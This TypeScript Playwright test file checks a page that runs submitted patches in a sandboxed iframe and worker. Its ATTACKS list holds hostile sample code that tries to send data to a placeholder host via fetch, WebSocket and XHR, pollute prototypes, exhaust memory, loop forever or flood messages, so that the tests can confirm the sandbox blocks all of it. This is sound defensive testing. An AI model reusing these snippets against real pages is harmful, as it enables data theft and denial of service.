// A stranger's patch in the page: what it does is shown, and what it tries to do to the reader comes to nothing.

import { once } from "node:events";
import { readFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, type Page, test } from "@playwright/test";
import { createTwoFilesPatch } from "diff";
import { expectFine, LOOKS } from "./looks.ts";
import { visit } from "./visit.ts";

const ADDRESS = "review/";
const FILE = "models/flags/isolate.ts";

const patchField = (page: Page) => page.getByRole("textbox", { name: /A diff of models/ });
const button = (page: Page, name: string) => page.getByRole("button", { name, exact: true });
const report = (page: Page) => page.getByRole("region", { name: "What it does" });

async function tryIt(page: Page, patch: string): Promise<void> {
  await patchField(page).fill(patch);
  await button(page, "Try it").click();
}

/** Runs in each worker that loads the changed models, before anything is asked of it. */
function patchWith(code: string): string {
  const text = readFileSync(FILE, "utf8");
  return createTwoFilesPatch(`a/${FILE}`, `b/${FILE}`, text, `${text}\n// @ts-nocheck\n${code}\n`);
}

test("a link fetches and runs nothing until the reader says so, and then tells what the patch does", async ({
  page,
}) => {
  const fetched: string[] = [];
  page.on("request", (request) => fetched.push(request.url()));
  await visit(page, ADDRESS);
  await page.getByRole("link", { name: "the unlock, moved up" }).click();
  await expect(patchField(page)).toHaveValue(/hold the page lock for less of the isolation/);
  expect(fetched.filter((url) => /machinery|models\.json|frame|referee/.test(url))).toEqual([]);
  await expect(page.locator("iframe")).toHaveCount(0);

  await button(page, "Try it").click();
  const first = report(page).locator("li.finding.rule, li.finding.fault").first();
  await first.waitFor();
  await first.locator("summary").click();
  await expect(first.getByRole("row", { name: /^End/ })).toBeVisible();
  await expect(first.locator("tr.first")).toHaveCount(1);
  for (const look of LOOKS) {
    await page.setViewportSize(look.viewport);
    await page.emulateMedia({ colorScheme: look.colorScheme });
    await expectFine(page, "while it runs");
  }
  await button(page, "Cancel").click();
  await expect(report(page).locator(".verdict")).toHaveText(/^(Can end in|Breaks rule)/);
});

test("of a refactoring nothing is found, and what was not tried is said", async ({ page }) => {
  await visit(page, ADDRESS);
  await page.getByRole("link", { name: "a refactoring" }).click();
  await button(page, "Try it").click();
  await expect(report(page)).toContainText(/\d+ of \d+: /);
  // How far it comes before it stops is up to the machine.
  await expect(report(page).locator(".verdict")).toHaveText(/^(No|Stopped before the end: no) difference found/);
  await expect(report(page)).toContainText("Tried: ");
  await report(page).getByText("What was not tried").click();
  await expect(report(page)).toContainText("the type checker");
});

test("a patch that does not fit is refused with its place, and one that is no TypeScript too", async ({ page }) => {
  await visit(page, ADDRESS);
  await tryIt(page, "no diff");
  await expect(page.getByRole("alert")).toContainText("the patch:1: there is no diff in this");
  await tryIt(page, "--- a/mm/migrate.c\n+++ b/mm/migrate.c\n@@ -1 +1 @@\n-a\n+b\n");
  await expect(page.getByRole("region", { name: "Where it stands" })).toContainText(
    "nothing that can be run, or placed",
  );
  await tryIt(page, patchWith("const = ;"));
  await expect(page.getByRole("alert")).toContainText(/models\/flags\/isolate\.ts:\d+:\d+: /);
});

test("a function is changed in the page, and the patch that comes of it can be shared", async ({ page }) => {
  await visit(page, ADDRESS);
  await button(page, "Change a function instead").click();
  await page.getByLabel("Function").selectOption({ label: "folio_unlock() in unlock.ts" });
  const editor = page.getByRole("textbox", { name: "folio_unlock() of flags" });
  // The text that is typed is seen through its colours, which lie on it: in one font, and without a frame between them.
  const fonts = await editor.evaluate((typed) => {
    const coloured = typed.closest(".editor")?.querySelector(".pce-line");
    return [typed, coloured].map((each) => each && getComputedStyle(each).font);
  });
  expect(fonts[0]).toBe(fonts[1]);
  await expect(editor).toHaveCSS("border-top-width", "0px");
  // One line is not followed by an empty field.
  const height = async () => (await page.locator(".review .editor").boundingBox())?.height ?? 0;
  const ofOneLine = await height();
  await page.getByLabel("Function").selectOption({ label: "isolate_movable_ops_page() in isolate.ts" });
  await expect.poll(height).toBeGreaterThan(2 * ofOneLine);
  await page.getByLabel("Function").selectOption({ label: "folio_unlock() in unlock.ts" });
  await expect.poll(height).toBe(ofOneLine);
  await editor.focus();
  await page.keyboard.press("Control+End");
  await page.keyboard.insertText(" // nothing else");
  await expect(patchField(page)).toHaveValue(/\+.*unlock\(folio\.page\)\); \/\/ nothing else/);
  const patch = await patchField(page).inputValue();
  await button(page, "Copy a link to this patch").click();
  const link = await page.getByRole("textbox", { name: "The link" }).inputValue();
  await page.goto("about:blank");
  await page.goto(link);
  await expect(patchField(page)).toHaveValue(patch);
});

test("a function that is to be changed can be read as C, and one that has no C says so", async ({ page }) => {
  await visit(page, ADDRESS);
  await button(page, "Change a function instead").click();
  await page.getByLabel("Era").selectOption("flags");
  await page.getByLabel("Function").selectOption({ label: "folio_unlock() in unlock.ts" });
  await page.getByText("As C, before your change").click();
  const code = page.getByRole("region", { name: "Code of folio_unlock" });
  await expect(code).toContainText("void folio_unlock(struct folio *folio)");
  await expect(page.locator("figure", { has: code })).toContainText("the model, as C – not kernel source");
  for (const look of LOOKS) {
    await page.setViewportSize(look.viewport);
    await page.emulateMedia({ colorScheme: look.colorScheme });
    await expectFine(page, "a function as C");
  }

  await page.getByLabel("Function").selectOption({ label: "bears_movable_ops_names() in movable.ts" });
  await page.getByText("As C, before your change").click();
  await expect(page.locator(".pick")).toContainText("This one has no C");
});

test("a kernel patch is placed, in a worker and with what that needs alone, and the model's copy can be changed after it", async ({
  page,
}) => {
  const fetched: string[] = [];
  page.on("request", (request) => fetched.push(request.url()));
  await visit(page, ADDRESS);
  await page.getByRole("link", { name: "a kernel patch" }).click();
  await expect(patchField(page)).toHaveValue(/set_movable_ops/);
  expect(fetched.filter((url) => /places\.json|placer/.test(url))).toEqual([]);
  await button(page, "Try it").click();
  const placed = page.getByRole("region", { name: "Where it stands" });
  await expect(placed).toContainText(/the models have \d of the \d functions/);
  expect(fetched.filter((url) => /machinery|models\.json|frame|referee/.test(url))).toEqual([]);
  await placed.locator("summary", { hasText: "page_movable_ops()" }).click();
  const place = placed.locator("details[open]", { hasText: "page_movable_ops()" }).locator('[data-era="flags"]');
  const paths = await place
    .getByRole("link")
    .evaluateAll((links) => links.map((link) => link.getAttribute("href") ?? ""));
  expect(paths.some((path) => path.includes("/scenarios/"))).toBe(true);
  const answers = await Promise.all(paths.map((path) => page.request.head(path)));
  expect(answers.map((answer) => answer.status()).filter((status) => status !== 200)).toEqual([]);
  await expectFine(page, "a kernel patch");

  await place.getByRole("button", { name: "Edit the model's copy of this function" }).click();
  await expect(page.getByRole("textbox", { name: "page_movable_ops() of flags" })).toBeFocused();
  await page.keyboard.press("Control+End");
  await page.keyboard.insertText(" // as there");
  await expect(patchField(page)).toHaveValue(
    /set_movable_ops.*Subject: \[PATCH\] models: the same change.*\+[^\n]*as there/s,
  );
  await expect(placed).toBeVisible();
});

/** `says`: what is found of it; in a finding's message. */
const ATTACKS = [
  {
    what: "looks for the page, its storage and its origin",
    code: `throw new Error([typeof window, typeof document, typeof parent, typeof localStorage, self.origin].join());`,
    says: "undefined,undefined,undefined,undefined,null",
  },
  {
    what: "goes somewhere else",
    code: `try { location.href = "HOME/gone"; } catch {} throw new Error("still " + location.protocol);`,
    says: "still blob:",
  },
  {
    what: "calls home",
    code: `
      const tries = [() => importScripts("HOME/a.js"), () => new Worker("HOME/a.js"), () => eval("1")];
      fetch("HOME/leak").catch(() => {});
      new WebSocket("HOME/leak".replace("http", "ws"));
      const refused = tries.filter((each) => { try { each(); return false; } catch { return true; } });
      const socket = new XMLHttpRequest();
      let sent = "sent";
      try { socket.open("GET", "HOME/leak", false); socket.send(); } catch { sent = "not sent"; }
      throw new Error("refused " + refused.length + ", " + sent);`,
    says: "refused 3, not sent",
  },
  {
    what: "answers with something that is no text",
    code: "const say = postMessage; globalThis.postMessage = () => say({ polluted: 1 });",
    says: "what it said is no text",
  },
  // Of objects in place of buffers the frame's process dies, perhaps, before its time is over, and the driver of these tests takes that for the page's.
  {
    what: "takes all memory",
    code: "const hog: unknown[] = []; for (;;) hog.push(new Uint8Array(2 ** 28));",
    says: "allocation failed",
  },
  { what: "never comes back", code: "while (true) {}", says: "not finished after" },
  { what: "floods", code: `for (;;) postMessage("x".repeat(1000));`, says: "the worker broke off" },
  {
    what: "answers with what is no answer",
    code: `
      const say = postMessage;
      globalThis.postMessage = () =>
        say('{"type":"answer","id":1,"answer":{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}}');`,
    says: "its answer is none",
  },
] as const;

/** Where a stranger would wait for what leaves. That nothing comes is what counts: a browser tells of requests, too, that it refuses to send. */
async function openHome(): Promise<{ url: string; came: string[]; close(): void }> {
  const came: string[] = [];
  const server = createServer(({ method, url }, response) => {
    came.push(`${method} ${url}`);
    response.writeHead(200, { "access-control-allow-origin": "*" }).end();
  });
  server.on("upgrade", ({ url }, socket) => {
    came.push(`upgrade ${url}`);
    socket.destroy();
  });
  await once(server.listen(0, "127.0.0.1"), "listening");
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}`, came, close: () => server.close() };
}

for (const { what, code, says } of ATTACKS) {
  test(`code that ${what} gets nowhere`, async ({ page }) => {
    const home = await openHome();
    await visit(page, ADDRESS);
    await tryIt(page, patchWith(code.replaceAll("HOME", home.url)));
    const found = report(page).locator("li.finding").first();
    await found.waitFor();
    await expect(found).toContainText(says);
    await expectAlive(page);
    expect(home.came).toEqual([]);
    home.close();
  });
}

test("a stranger's home hears of whoever may call it", async ({ page }) => {
  const home = await openHome();
  await page.goto(`${home.url}/hello`);
  expect(home.came).toContain("GET /hello");
  home.close();
});

/** The page answers, still has its own objects, and begins anew with another frame. */
async function expectAlive(page: Page): Promise<void> {
  expect(await page.evaluate(() => "polluted" in {})).toBe(false);
  await patchField(page).fill("another");
  await expect(page.locator("iframe")).toHaveCount(0);
}

test.describe("the frame", () => {
  test("has an origin of its own and a policy that refuses everything", async ({ page }) => {
    await visit(page, ADDRESS);
    await tryIt(page, patchWith("while (true) {}"));
    await expect(page.locator("iframe")).toHaveAttribute("sandbox", "allow-scripts");
    const frame = await expect
      .poll(() => page.frames().length)
      .toBe(2)
      .then(() => page.frames()[1]);
    const reached = await frame?.evaluate(async () => {
      const reach = (what: () => unknown) => {
        try {
          what();
          return "reached";
        } catch {
          return "refused";
        }
      };
      const network = await fetch(location.href).then(
        () => "reached",
        () => "refused",
      );
      return [origin, network, reach(() => localStorage.length), reach(() => parent.document.title)];
    });
    expect(reached).toEqual(["null", "refused", "refused", "refused"]);
  });

  test("is ended when it goes somewhere else", async ({ page }) => {
    await visit(page, ADDRESS);
    await tryIt(page, patchWith("while (true) {}"));
    await expect.poll(() => page.frames().length).toBe(2);
    await page.frames()[1]?.evaluate(() => {
      location.href = "about:blank";
    });
    await expect(page.getByRole("alert")).toContainText("went somewhere else");
    await expect(page.locator("iframe")).toHaveCount(0);
  });

  test("opened as a page of its own starts nothing", async ({ page }) => {
    await page.goto("review/frame.html");
    const workers: string[] = [];
    page.on("worker", (worker) => workers.push(worker.url()));
    const answered = await page.evaluate(async () => {
      const { port1, port2 } = new MessageChannel();
      postMessage(null, "*", [port2]);
      await new Promise((resolve) => setTimeout(resolve));
      port1.postMessage({ type: "side", side: "x", script: "postMessage('x')" });
      await new Promise((resolve) => setTimeout(resolve));
      return document.scripts.length;
    });
    expect(answered).toBe(2);
    expect(workers).toEqual([]);
  });
});
